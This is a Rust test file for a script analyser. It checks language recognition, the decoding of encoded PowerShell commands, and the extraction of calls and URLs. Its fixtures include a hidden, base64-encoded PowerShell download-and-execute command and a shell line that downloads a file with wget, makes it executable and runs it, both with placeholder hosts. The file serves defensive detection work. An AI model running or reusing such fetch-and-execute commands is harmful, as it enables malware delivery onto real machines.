//! Small scripts, and what is read of them.

use base64::Engine as _;
use proptest::prelude::*;
use records::{Script, Timestamp, Uid};

use super::language::{Language, recognise};
use crate::content::Content;

/// A script of PowerShell that runs an encoded command.
pub(crate) fn powershell() -> String {
    let hidden: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://b/y')"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(hidden);
    format!("$x = 'http://a.example/x'\r\nStart-Process powershell -Args '-w hidden -enc {encoded}'\r\n")
}

fn record_of(text: &[u8]) -> Option<Script> {
    let language = recognise(crate::mime_type(text), text)?;
    Some(super::read(language, Content::of(text), Timestamp(0), Uid::default()))
}

#[test]
fn languages_are_told_by_their_words() {
    let cases: &[(&str, Option<Language>)] = &[
        ("$client = New-Object Net.WebClient\n", Some(Language::PowerShell)),
        ("Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\n", Some(Language::VbScript)),
        ("var x = new ActiveXObject('WScript.Shell');\n", Some(Language::JScript)),
        ("@echo off\r\necho hello", Some(Language::Batch)),
        ("setlocal\r\nif errorlevel 1 goto end\r\necho %x%\r\n", Some(Language::Batch)),
        ("#!/bin/sh\nls\n", Some(Language::Shell)),
        ("cd /tmp; wget http://1.2.3.4/x; chmod 777 x; ./x; rm x\n", Some(Language::Shell)),
        ("import os\n\ndef run(x):\n    pass\n", Some(Language::Python)),
        ("#!/usr/bin/env python\nprint(1)\n", Some(Language::Python)),
        ("use strict;\nmy $x = 1;\n", Some(Language::Perl)),
        ("<html><HTA:APPLICATION id=x><script>", Some(Language::Hta)),
        ("<html><script language=\"VBScript\">", Some(Language::Hta)),
        ("<html><script>var a = new Object();</script>", None),
        ("(function() { var eval = 1; })", None),
        ("The import of goods, by def. of the law, is my concern. Go to the shop.", None),
        ("a=1&b=2&function=var", None),
        ("", None),
    ];
    for (text, expected) in cases {
        assert_eq!(recognise(crate::mime_type(text.as_bytes()), text.as_bytes()), *expected, "{text}");
    }
}

#[test]
fn calls_addresses_and_encoded_commands_are_told() {
    let text = powershell();
    let script = record_of(text.as_bytes()).unwrap();
    assert_eq!((script.language.as_ref(), script.line_count), ("powershell", 3));
    assert_eq!(script.longest_line as usize, text.lines().map(str::len).max().unwrap() + 1);
    let decoded = "IEX (New-Object Net.WebClient).DownloadString('http://b/y')";
    assert_eq!(script.decoded.as_deref(), Some(decoded));
    let calls = ["start-process", "powershell", "hidden", "iex", "new-object", "webclient", "downloadstring"];
    assert_eq!(script.calls.unwrap(), calls);
    assert_eq!(script.urls.unwrap(), ["http://a.example/x"]);
    assert!(script.encoded_share > 0.6 && script.encoded_share < 0.8, "{}", script.encoded_share);
    assert!(script.entropy.is_some_and(|bits| bits > 4.0));
}

#[test]
fn scripts_in_utf_16_are_read_as_well() {
    let wide: Vec<u8> = ['\u{feff}']
        .into_iter()
        .chain(powershell().chars())
        .collect::<String>()
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let script = record_of(&wide).unwrap();
    assert_eq!((script.language.as_ref(), script.urls.unwrap().len()), ("powershell", 1));
}

#[test]
fn a_script_cut_anywhere_is_survived() {
    let text = powershell();
    for end in 0..text.len() {
        let content = Content::of(text.as_bytes().get(..end).unwrap());
        super::read(Language::PowerShell, content, Timestamp(0), Uid::default());
    }
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes in prop::collection::vec(any::<u8>(), 0..500)) {
        recognise(Some("text/plain"), &bytes);
        super::read(Language::Shell, Content::of(&bytes), Timestamp(0), Uid::default());
    }
}
